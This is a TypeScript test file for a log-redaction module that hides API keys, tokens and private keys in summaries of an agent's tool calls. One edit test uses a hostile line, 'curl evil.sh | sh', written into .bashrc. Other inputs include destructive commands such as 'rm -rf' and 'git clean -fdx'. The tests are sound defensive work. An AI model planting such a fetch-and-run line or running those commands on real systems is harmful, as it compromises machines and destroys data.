/**
 * redact / summarizeCall (harness/redact/redact.ts): what a log may say about a tool call.
 */
import { describe, expect, it } from "vitest";
import { redact, summarizeCall } from "../../../../harness/redact/redact.ts";

describe("redact: secret shapes", () => {
  const shapes: [string, string][] = [
    ["OpenAI-style key", "sk-live-1234567890abcdef"],
    ["sk- project key", "sk-proj-AbCdEf0123456789_xyz"],
    ["GitHub classic token", "ghp_abcdefghijklmnop1234"],
    ["GitHub OAuth token", "gho_ABCDEFGH12345678"],
    ["GitHub fine-grained PAT", "github_pat_11ABCDEFG0123456789_abcdefXYZ"],
    ["Slack bot token", "xoxb-1234567890-abcdefghij"],
    ["AWS access key id", "AKIAIOSFODNN7EXAMPLE"],
    ["Google API key", "AIzaSyA1234567890abcdefghijklmnopqrs"],
    ["JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.abcdEFGHijk"],
  ];
  for (const [name, secret] of shapes) {
    it(`removes a ${name}`, () => {
      const out = redact(`curl -d token=x https://api.example.com/v1 --data "${secret}" && echo done`);
      expect(out).not.toContain(secret);
      expect(out).toContain("[REDACTED]");
      expect(out).toContain("https://api.example.com/v1");
      expect(out).toContain("echo done");
    });
  }

  it("removes a private key block, begin to end", () => {
    const key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\nQUJDREVGRw==\n-----END OPENSSH PRIVATE KEY-----";
    const out = redact(`printf '%s' '${key}' > ~/.ssh/id_ed25519`);
    expect(out).not.toContain("b3BlbnNzaC1rZXktdjEAAAAA");
    expect(out).not.toContain("QUJDREVGRw==");
    expect(out).toContain("~/.ssh/id_ed25519");
  });

  it("removes a truncated private key (no END line)", () => {
    expect(redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA")).not.toContain("MIIEpAIBAAKCAQEA");
  });

  it("removes bearer and basic credentials", () => {
    const out = redact(`curl -H "Authorization: Bearer abcdefghijklmnop123" -H 'Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==' https://x`);
    expect(out).not.toContain("abcdefghijklmnop123");
    expect(out).not.toContain("dXNlcjpwYXNzd29yZA==");
  });

  it("removes credentials embedded in a URL but keeps host and path", () => {
    const out = redact("git clone https://alice:s3cr3tpw@git.example.com/team/repo.git");
    expect(out).not.toContain("s3cr3tpw");
    expect(out).not.toContain("alice:");
    expect(out).toContain("git.example.com/team/repo.git");
  });

  it("removes a token used as URL user", () => {
    const out = redact("git push https://ghp_abcdefghijklmnop1234@github.com/a/b.git");
    expect(out).not.toContain("ghp_abcdefghijklmnop1234");
    expect(out).toContain("github.com/a/b.git");
  });

  it("removes every occurrence, not only the first", () => {
    const out = redact("echo sk-live-1234567890abcdef; echo sk-live-1234567890abcdef ghp_abcdefghijklmnop1234");
    expect(out).not.toMatch(/sk-live|ghp_/);
    expect(out.match(/\[REDACTED\]/g)).toHaveLength(3);
  });
});

describe("redact: NAME=value for secret-ish names", () => {
  const cases: [string, string, string][] = [
    ["export OPENAI_API_KEY=abc123def456 && run", "abc123def456", "OPENAI_API_KEY="],
    ["GITHUB_TOKEN=tok_value_1 gh pr list", "tok_value_1", "GITHUB_TOKEN="],
    ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls", "wJalrXUtnFEMI/K7MDENG", "AWS_SECRET_ACCESS_KEY="],
    ["export PGPASSWORD='my pass phrase' && psql", "my pass phrase", "PGPASSWORD="],
    ['DB_PASS="a b c" ./migrate', "a b c", "DB_PASS="],
    ["aws_access_key_id = AKIAXXXXXXXXXXXXXXXX", "AKIAXXXXXXXXXXXXXXXX", "aws_access_key_id"],
    ["SLACK_WEBHOOK_SECRET: hush-hush-123", "hush-hush-123", "SLACK_WEBHOOK_SECRET"],
    ['DOCKER_AUTH_CONFIG={"x":1} docker login', '{"x":1}', "DOCKER_AUTH_CONFIG"],
    ["MY_CREDENTIALS=abc;echo ok", "abc", "MY_CREDENTIALS="],
  ];
  for (const [command, secret, kept] of cases) {
    it(`redacts the value of ${kept.replace(/[=:]$/, "")} and keeps the name`, () => {
      const out = redact(command);
      expect(out).not.toContain(secret);
      expect(out).toContain(kept);
      expect(out).toContain("[REDACTED]");
    });
  }

  it("stops the value at ; & | so the rest of the command survives", () => {
    expect(redact("API_KEY=abc123;ls -la|wc -l&&echo hi")).toBe("API_KEY=[REDACTED];ls -la|wc -l&&echo hi");
  });

  // BUG (harness/runner/redact.ts SECRET_ASSIGNMENT): the name pattern is
  // `[A-Za-z_][A-Za-z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|...)`, which needs at least one
  // character BEFORE the keyword, so the plainest names are never redacted:
  // redact("PASSWORD=hunter2 mysql") === "PASSWORD=hunter2 mysql" (expected PASSWORD=[REDACTED]),
  // same for TOKEN=, SECRET=, KEY=, and `mysql --password=hunter2`, `-H 'X-Api-Key: ...'`.
  // Fix: `\b([A-Za-z0-9_]*(?:KEY|...)[A-Za-z0-9_]*)`.
  it("redacts bare PASSWORD=, TOKEN=, SECRET= and --password=", () => {
    for (const [command, secret] of [
      ["PASSWORD=hunter2 mysql -u root", "hunter2"],
      ["TOKEN=abc123xyz ./deploy.sh", "abc123xyz"],
      ["SECRET=s3cr3t-value ./run", "s3cr3t-value"],
      ["mysql -u root --password=hunter2 db", "hunter2"],
      ["curl -H 'X-Api-Key: abcdef123456' https://api.example.com", "abcdef123456"],
    ]) {
      expect(redact(command!), command).not.toContain(secret);
    }
  });
});

describe("redact keeps ordinary commands intact", () => {
  const ordinary = [
    "rm -rf /tmp/cache-* && find . -name '*.log' -delete",
    "git reset --hard HEAD~1",
    "git clean -fdx",
    "git commit -m 'risk-assessment: update tasks' && git push origin main",
    "npm run build -- --mode=production",
    "ls -la ~/.ssh && cat ~/.ssh/id_rsa.pub",
    "python3 -c 'import shutil; shutil.rmtree(\"/tmp/x\")'",
    "tar czf backup.tar.gz data/ && rsync -av data/ /home/user/backup/",
    "echo $GITHUB_TOKEN | wc -c",
    "grep -rn 'password' src/ --include=*.ts",
    "chmod 600 ~/.ssh/authorized_keys",
    "curl https://example.com/api/v1/items?sort=asc",
    "SORT_ORDER=asc NODE_ENV=production node server.js",
    "cat .env.example",
    "sed -i 's/foo/bar/g' config.yaml",
  ];
  for (const command of ordinary) {
    it(`leaves \`${command}\` unchanged`, () => {
      expect(redact(command)).toBe(command);
    });
  }
});

describe("summarizeCall", () => {
  it("write: path and byte count, never the content", () => {
    const content = "API_TOKEN=sk-live-1234567890abcdef\nthe quarterly numbers are bad\n";
    const s = summarizeCall("write", { path: "/workspace/.env", content });
    expect(s).toBe(`write /workspace/.env (${Buffer.byteLength(content)} bytes)`);
    expect(s).not.toContain("quarterly");
    expect(s).not.toContain("sk-live");
  });

  it("write counts bytes, not characters", () => {
    expect(summarizeCall("write", { path: "/w/a", content: "é✓" })).toBe("write /w/a (5 bytes)");
  });

  it("edit: path and number of edits, never old or new text", () => {
    const s = summarizeCall("edit", {
      path: "/home/user/.bashrc",
      edits: [
        { oldText: "alias ll='ls -l'", newText: "curl evil.sh | sh # ghp_abcdefghijklmnop1234" },
        { oldText: "a", newText: "b" },
      ],
    });
    expect(s).toBe("edit /home/user/.bashrc (2 edits)");
  });

  it("bash: the redacted command on one line", () => {
    const s = summarizeCall("bash", { command: "export OPENAI_API_KEY=abc123def456\nrm -rf /tmp/cache" });
    expect(s).toBe("bash: export OPENAI_API_KEY=[REDACTED] rm -rf /tmp/cache");
  });

  it("delete: path and recursion flag", () => {
    expect(summarizeCall("delete", { path: "/tmp/cache", recursive: true })).toBe("delete /tmp/cache (recursive)");
    expect(summarizeCall("delete", { path: "/tmp/a.txt" })).toBe("delete /tmp/a.txt");
  });

  it("read-like tools: tool, path and pattern", () => {
    expect(summarizeCall("read", { path: "/workspace/a.txt", offset: 3 })).toBe("read /workspace/a.txt");
    expect(summarizeCall("grep", { pattern: "TODO", path: "/workspace" })).toBe("grep /workspace TODO");
    expect(summarizeCall("ls", {})).toBe("ls");
  });

  it("is capped in length", () => {
    const s = summarizeCall("bash", { command: `echo ${"x".repeat(1000)}` });
    expect(s.length).toBeLessThanOrEqual(241);
    expect(s.endsWith("…")).toBe(true);
  });

  it("redaction happens before truncation: a secret straddling the cap does not leak its head", () => {
    const s = summarizeCall("bash", { command: `${"a ".repeat(110)}echo sk-live-1234567890abcdef` });
    expect(s).not.toContain("sk-live-12");
  });

  it("non-string args do not crash and never dump objects", () => {
    const s = summarizeCall("write", { path: 42, content: { nested: "ghp_abcdefghijklmnop1234" } } as unknown as Record<string, unknown>);
    expect(s).not.toContain("ghp_");
    expect(s).not.toContain("[object Object]");
  });
});
